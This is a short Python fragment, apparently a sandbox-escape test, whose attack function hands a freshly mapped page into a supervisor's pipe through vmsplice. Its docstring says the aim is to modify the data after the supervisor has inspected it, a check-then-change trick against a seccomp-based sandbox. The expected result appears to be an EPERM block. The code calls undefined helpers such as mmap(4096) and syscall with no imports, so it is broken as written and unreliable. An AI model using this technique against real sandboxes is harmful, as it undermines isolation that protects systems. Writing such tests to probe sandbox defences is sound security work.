"""Gives a page of its own into the supervisor's pipe, to change it when it has been looked at."""

FULL = "EPERM", "seccomp"


def attack():
    place = mmap(4096)
    ctypes.memset(place, 10, 1)
    return syscall("vmsplice", 1, struct.pack("QQ", place, 1), 1, 0)
